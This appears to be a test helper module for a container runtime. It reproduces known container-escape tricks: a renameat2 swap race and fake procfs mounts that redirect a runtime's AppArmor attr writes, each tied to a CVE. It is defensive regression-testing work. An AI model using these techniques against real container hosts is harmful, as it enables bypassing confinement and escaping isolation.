# SPDX-License-Identifier: Apache-2.0
"""What an attacker does who shares a volume with the container that is being made."""

import ctypes
import os
import threading

_AT_FDCWD = -100
_RENAME_EXCHANGE = 2
_libc = ctypes.CDLL(None, use_errno=True)


def exchange(one, other):
    """Swaps two names at once."""
    if _libc.renameat2(_AT_FDCWD, os.fsencode(one), _AT_FDCWD, os.fsencode(other), _RENAME_EXCHANGE) < 0:
        raise OSError(ctypes.get_errno(), f"exchanging {one} and {other}")


class Swapper:
    """Swaps two names as fast as it can, while the block runs."""

    def __init__(self, one, other):
        self.names = one, other
        self.swaps = 0
        self.ended = threading.Event()
        self.thread = threading.Thread(target=self._swap)

    def _swap(self):
        while not self.ended.is_set():
            exchange(*self.names)
            self.swaps += 1

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *_):
        self.ended.set()
        self.thread.join()


def files_below(path):
    """Everything in a directory and below it."""
    return sorted(os.path.join(top, name) for top, directories, files in os.walk(path) for name in directories + files)


def fake_proc(path):
    """What an image or a volume would have in place of a procfs, to take what a runtime writes there; its files."""
    files = []
    for process in ("self", "thread-self", "1"):
        for name in ("exec", "current", "apparmor/exec", "apparmor/current"):
            file = f"{path}/{process}/attr/{name}"
            os.makedirs(os.path.dirname(file), exist_ok=True)
            with open(file, "w", encoding="utf-8"):
                pass
            files.append(file)
    return files


def offer_fake_proc(made, workdir, trick):
    """Has the container bring such a place instead of a procfs; the files in it. `trick` is one of FAKE_PROCS."""
    bundle = made.bundle
    volume = f"{workdir}/volume"
    in_image = trick == "image"
    files = fake_proc(f"{bundle.rootfs}/proc" if in_image else volume)
    if in_image or trick in ("symlink", "volume"):
        bundle.config["mounts"] = [mount for mount in bundle.config["mounts"] if mount["destination"] != "/proc"]
    if trick == "symlink":  # CVE-2019-19921, CVE-2023-28642
        os.rmdir(f"{bundle.rootfs}/proc")
        os.symlink("volume", f"{bundle.rootfs}/proc")
        bundle.mount("/volume", volume, "rbind")
    elif trick == "volume":  # CVE-2019-16884
        bundle.mount("/proc", volume, "rbind")
    elif trick == "attr":
        bundle.mount("/proc/self/attr", f"{volume}/self/attr", "rbind")
    elif trick == "symlink to attr":  # CVE-2025-52881
        os.symlink("/proc/self/attr", f"{bundle.rootfs}/link")
        bundle.mount("/link", f"{volume}/self/attr", "rbind")
    return files


FAKE_PROCS = ("image", "symlink", "volume", "attr", "symlink to attr")
